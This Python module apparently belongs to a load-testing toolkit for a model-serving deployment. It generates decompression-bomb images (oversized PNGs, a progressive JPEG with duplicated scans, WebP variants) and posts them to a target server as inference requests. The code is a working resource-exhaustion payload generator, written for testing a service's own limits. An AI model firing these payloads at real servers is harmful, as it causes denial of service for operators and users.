"""Pictures of few bytes that are many pixels, or much work for each, in every format."""

from __future__ import annotations

import io
import itertools
import struct
import zlib
from collections.abc import Sequence
from typing import Any

from hhdeploy.errors import require
from hhdeploy.loadtest.abuse.wire import Attack, Victim, binary_request, packed, posting

# Just below what a server takes of one picture and, so many of them, of one request.
_SIDE, _PICTURES = 7000, 8
# Beyond both.
_VAST_SIDE = 60_000
_SCANS = 99
_START_OF_SCAN, _END_OF_IMAGE = b"\xff\xda", b"\xff\xd9"


def png_bombs(victim: Victim) -> Attack:
    """PNG: of one bit and of 48 bits a pixel, and one whose header alone is vast."""
    return _sent(victim, [_png(_SIDE, 1, 0), _png(_SIDE, 16, 2), _png(_VAST_SIDE, 1, 0, 9)])


def jpeg_bombs(victim: Victim) -> Attack:
    """JPEG: as cameras write it, and of nearly as many scans as are taken."""
    plain, progressive = _saved("JPEG"), _saved("JPEG", progressive=True)
    begin = progressive.rindex(_START_OF_SCAN)
    last = progressive[begin:].removesuffix(_END_OF_IMAGE)
    more = _SCANS - progressive.count(_START_OF_SCAN)
    return _sent(victim, [plain, progressive[:begin] + last * (more + 1) + _END_OF_IMAGE])


def webp_bombs(victim: Victim) -> Attack:
    """WebP: lossy and lossless."""
    return _sent(
        victim, [_saved("WEBP", method=0), _saved("WEBP", lossless=True, quality=0, method=0)]
    )


def _saved(kind: str, **options: object) -> bytes:
    image: Any = require("PIL.Image", "serve", "abuse by pictures")
    stream = io.BytesIO()
    image.new("L" if kind == "JPEG" else "RGB", (_SIDE, _SIDE), 99).save(stream, kind, **options)
    return stream.getvalue()


def _png(side: int, bits: int, colour: int, rows: int | None = None) -> bytes:
    """A black square of which ``rows`` are there; ``colour`` is PNG's type, 0 grey and 2 RGB."""
    row = b"\0" * (1 + side * bits * (3 if colour == 2 else 1) // 8)
    data = packed([(row, side if rows is None else rows)], 15)
    header = struct.pack(">IIBBBBB", side, side, bits, colour, 0, 0, 0)
    parts = ((b"IHDR", header), (b"IDAT", data), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(itertools.starmap(_chunk, parts))


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _sent(victim: Victim, pictures: Sequence[bytes]) -> Attack:
    requests = []
    for picture, count in itertools.product(pictures, (1, _PICTURES)):
        tensor = (struct.pack("<I", len(picture)) + picture) * count
        requests.append(binary_request("BYTES", [count], tensor))
    return posting(victim, requests)
